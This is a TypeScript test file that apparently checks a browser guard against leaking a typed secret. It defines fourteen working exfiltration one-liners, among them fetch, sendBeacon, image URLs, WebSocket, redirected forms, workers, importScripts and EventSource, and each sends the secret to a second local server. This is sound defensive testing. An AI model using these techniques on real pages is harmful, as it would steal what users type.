import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { WebSocketServer } from 'ws'
import { type LocalServer, openPlace, startBrowser, startLocal, type TriedPlace } from '../../test/browser-place.ts'

const SECRET = 'clave-del-transportista-9f3'

let site: LocalServer
let other: LocalServer
let place: TriedPlace
let atSite: string[] = []
let atOther: string[] = []
const host = startBrowser()
const address = ({ port }: LocalServer): string => `http://127.0.0.1:${port}`

beforeAll(async () => {
  other = await startLocal((request, response) => {
    let body = ''
    request.on('data', (part) => {
      body += part
    })
    request.on('end', () => {
      atOther.push(`${request.method} ${request.url} ${body}`)
      response.setHeader('access-control-allow-origin', '*').end('ok')
    })
  })
  new WebSocketServer({ server: other.server }).on('connection', (socket) =>
    socket.on('message', (data) => atOther.push(`socket ${data}`)),
  )
  site = await startLocal((request, response) => {
    if (request.method === 'POST') atSite.push(request.url ?? '')
    const status = Number(/^\/to(\d+)$/.exec(request.url ?? '')?.[1] ?? 200)
    if (status !== 200) return void response.writeHead(status, { location: `${address(other)}/f` }).end()
    response.setHeader('content-type', 'text/html').end('<iframe name=inner></iframe>')
  })
  place = await openPlace(host, `${address(site)}/`, [`127.0.0.1:${site.port}`, `127.0.0.1:${other.port}`], undefined, [
    address(site),
  ])
})
afterAll(async () => {
  await place.close()
  await host.close()
  for (const server of [site, other]) server.close()
})

/** Opens the page anew, with a socket to the other site, and types: what the script does then is asked of the guard. */
async function leak(script: string): Promise<void> {
  const page = place.pages.main()
  place.guard.setSignedIn(false)
  await page.goto(`${address(site)}/`)
  await page.evaluate(
    `new Promise((done) => { window.ws = new WebSocket("${address(other).replace('http', 'ws')}/s"); ws.onopen = done })`,
  )
  atSite = []
  atOther = []
  await place.guard.protect(SECRET)
  await page.evaluate(`{ const clave = ${JSON.stringify(SECRET)}; const other = "${address(other)}"; ${script} }`)
}
const form = (status: number): string =>
  `document.body.insertAdjacentHTML("beforeend", '<form method=post action="/to${status}" target=inner><input name=clave>'); document.forms[0].clave.value = clave; document.forms[0].submit()`

const inWorker = (script: string): string =>
  `new Worker(URL.createObjectURL(new Blob(['const clave = ' + JSON.stringify(clave) + ', other = ' + JSON.stringify(other) + ';' + ${JSON.stringify(script)}])))`
const inWorkerOfWorker = (script: string): string =>
  inWorker(
    `new Worker(URL.createObjectURL(new Blob(['const clave = ' + JSON.stringify(clave) + ', other = ' + JSON.stringify(other) + ';' + ${JSON.stringify(script)}])))`,
  )
const POST = 'fetch(other + "/w", { method: "POST", mode: "no-cors", body: clave }).catch(() => 0)'

/** What a page, or a script of others on it, can do with what is typed. */
const leaks = [
  ['a request', 'fetch(other + "/a", { method: "POST", mode: "no-cors", body: clave }).catch(() => 0)'],
  ['a beacon, enciphered', 'navigator.sendBeacon(other + "/b", [...clave].reverse().join(""))'],
  ['the address of a picture, in base64', 'new Image().src = other + "/c?d=" + btoa("x" + clave)'],
  ['a socket', 'ws.send("hola " + clave)'],
  ['a form of another site', form(200).replace('action="/to200"', `action="' + other + '/e"`)],
  ['a form redirected with its body (307)', form(307)],
  ['a form redirected with its body (308)', form(308)],
  [
    'a request redirected with its body',
    'fetch("/to307", { method: "POST", mode: "no-cors", body: clave }).catch(() => 0)',
  ],
  ['a worker', inWorker(POST)],
  ['a worker of a worker', inWorkerOfWorker(POST)],
  [
    'a waiting request of a worker',
    inWorker('const x = new XMLHttpRequest(); x.open("POST", other + "/x", false); x.send(clave)'),
  ],
  ['the address of a script of a worker', inWorker('importScripts(other + "/i?d=" + btoa(clave))')],
  ['the address of a worker of a worker', inWorkerOfWorker('import(other + "/j?d=" + clave)')],
  ['events that a worker waits for', inWorker('new EventSource(other + "/k?d=" + clave)')],
] as const

test.each(leaks)('what is typed does not leave by %s', async (_how, script) => {
  const before = place.denied.length
  await leak(script)
  await vi.waitFor(() => expect(place.denied.length).toBeGreaterThan(before), { timeout: 20_000 })
  expect(atOther).toEqual([])
})

test('what says nothing of it passes, and so does what goes to the site itself', async () => {
  await leak('fetch(other + "/mapa.png", { mode: "no-cors" }); fetch("/entrar", { method: "POST", body: clave })')
  await vi.waitFor(() => expect([atOther, atSite]).toEqual([['GET /mapa.png '], ['/entrar']]))
})

test('signed in, a page talks with others again, and never tells them what was typed', async () => {
  await leak('')
  place.guard.setSignedIn(true)
  const page = place.pages.main()
  const post = (body: string) =>
    page.evaluate(
      `fetch("${address(other)}/sitio", { method: "POST", mode: "no-cors", body: "${body}" }).then(() => true, () => false)`,
    )
  expect([await post('unidades=1'), await post(`p=${SECRET}`)]).toEqual([true, false])
  expect(atOther).toEqual(['POST /sitio unidades=1'])
  expect(place.guard.refusedHosts()).toEqual([new URL(address(other)).host])
})
